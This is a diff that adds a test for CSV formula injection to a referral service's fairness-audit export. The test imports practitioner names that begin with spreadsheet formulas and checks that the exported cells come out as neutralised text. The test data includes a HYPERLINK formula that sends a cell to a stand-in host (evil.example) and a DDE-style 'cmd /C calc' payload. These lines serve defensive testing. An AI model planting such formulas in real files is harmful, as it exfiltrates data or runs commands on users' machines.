@@ -1,6 +1,7 @@
 import { expect } from 'chai';
 import { parse } from 'csv-parse/sync';
 import { practitionersAround } from '../support/factories.js';
+import { gp, registryText } from '../support/registry-fixture.js';
 import { givenService, type TestService } from '../support/test-service.js';
 
 const ORIGINS = [{ lat: 48.8686, lon: 2.3314 }, { lat: 48.8776, lon: 2.3314 }, { lat: 48.8596, lon: 2.3451 }];
@@ -121,5 +122,34 @@ describe('GET /v1/audit/fairness', () => {
     expect((await service.call('get', '/v1/audit/fairness?from=23/11/2026')).status).to.equal(400);
     expect((await service.call('get', '/v1/audit/fairness?department=100')).status).to.equal(400);
     expect((await service.call('get', '/v1/audit/fairness?specialty=astrologie')).status).to.equal(422);
+  });
+});
+
+describe('GET /v1/audit/fairness?format=csv with names written as formulas', () => {
+  // The registry's separator is `|`, so the DDE payloads of the issue cannot be imported whole; these starts can.
+  const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd' /C calc'!A0", '-2+3+cmd', '@SUM(1+1)*cmd', '\t=1+1'];
+  const ids = Array.from({ length: 6 }, (_, i) => `8100014${String(i).padStart(5, '0')}`);
+  let service: TestService;
+  before(async () => {
+    service = givenService();
+    const names = [...FORMULAS, 'Dupont-Martin'];
+    const extract = registryText(ids.map((id, i) => gp(id, { "Nom d'exercice": names[i] as string })));
+    await service.as().post('/v1/imports').set('content-type', 'text/plain').send(extract);
+    await service.importsIdle();
+    // Six in the pool, five proposed each time: the second proposes the one the first left out.
+    for (let i = 0; i < 2; i++) await service.call('post', '/v1/referrals', { specialty: 'generaliste', location: { postcode: '69003' } });
+  });
+  after(() => service.close());
+
+  it('when an imported name starts a formula, then its cell is text in a spreadsheet; other names and negative deficits are unchanged', async () => {
+    const res = await service.call('get', '/v1/audit/fairness?format=csv');
+    const rows = parse(res.text, { columns: true }) as Record<string, string>[];
+    const names = rows.map((row) => row.name);
+    // The import trims the tab: the name is stored as `=1+1`, and neutralised on the way out.
+    for (const formula of FORMULAS) expect(names).to.include(`'${formula.trim().toUpperCase()} Paul`);
+    expect(names).to.include('DUPONT-MARTIN Paul');
+    for (const cell of rows.flatMap((row) => [row.national_id, row.name, row.specialty])) expect(cell).to.not.match(/^[=+\-@\t\r]/);
+    // Numbers are not text: a negative deficit stays a number.
+    expect(rows.map((row) => row.deficit)).to.include('-0.333333');
   });
 });
